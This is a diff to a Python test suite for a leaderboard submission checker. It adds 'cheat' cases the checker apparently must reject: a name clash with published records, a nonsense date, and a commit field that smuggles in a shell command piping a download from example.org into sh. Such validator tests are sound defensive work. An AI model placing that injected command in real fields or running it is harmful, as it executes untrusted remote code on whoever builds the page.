@@ -21,6 +21,7 @@ from leaderboard.checks import Submission
 from leaderboard.checks.folder import MOST_BYTES
 from leaderboard.schema import Cost, Record
 from leaderboard.statistics import bootstrap_interval
+from pipelines import workspace
 from pipelines.submit import TEMPLATE
 from tests.leaderboard import records
 from tests.pipelines.tiny_artifacts import write as write_artifact
@@ -39,16 +40,16 @@ class World:
     """A folder with submissions/ and results/."""
 
     root: Path
+    name: str = NAME
 
     @property
     def folder(self) -> Path:
-        return self.root / "submissions" / NAME
+        return self.root / "submissions" / self.name
 
     @property
     def submission(self) -> Submission:
-        return Submission(
-            NAME, self.folder, self.root / "results", FORMS, frozenset({"albert", "teacher"}), {TASK: EXAM}, self.root
-        )
+        taken = frozenset({"albert", "teacher"}) | workspace.rows()
+        return Submission(self.name, self.folder, self.root / "results", FORMS, taken, {TASK: EXAM}, self.root)
 
     def record(self, name: str = NAME, task: str = TASK) -> Path:
         return self.root / "results" / "default" / name / f"{task}.json"
@@ -352,6 +353,26 @@ def the_name_of_a_published_method(world: World) -> None:
     (world.root / "submissions" / NAME / "card.yaml").write_text(
         (world.root / "submissions/albert/card.yaml").read_text().replace(f"name: {NAME}", "name: albert")
     )
+
+
+@cheat("name")
+def the_name_of_an_ablation(world: World) -> None:
+    """Its records would be written over the published ones."""
+    before, world.name = world.folder, "open_autoglm_dynamic"
+    before.rename(world.folder)
+    card = world.folder / "card.yaml"
+    card.write_text(card.read_text().replace(f"name: {NAME}", f"name: {world.name}"))
+
+
+@cheat("schema")
+def a_shell_command_for_a_commit(world: World) -> None:
+    """The page has it after "git checkout"."""
+    world.edit(lambda raw: raw["code"].update(commit="main; curl example.org | sh"), honest_seal=False)
+
+
+@cheat("schema")
+def a_date_that_is_none(world: World) -> None:
+    world.edit(lambda raw: raw.update(created="9999, for ever the newest"), honest_seal=False)
 
 
 @cheat("finite")
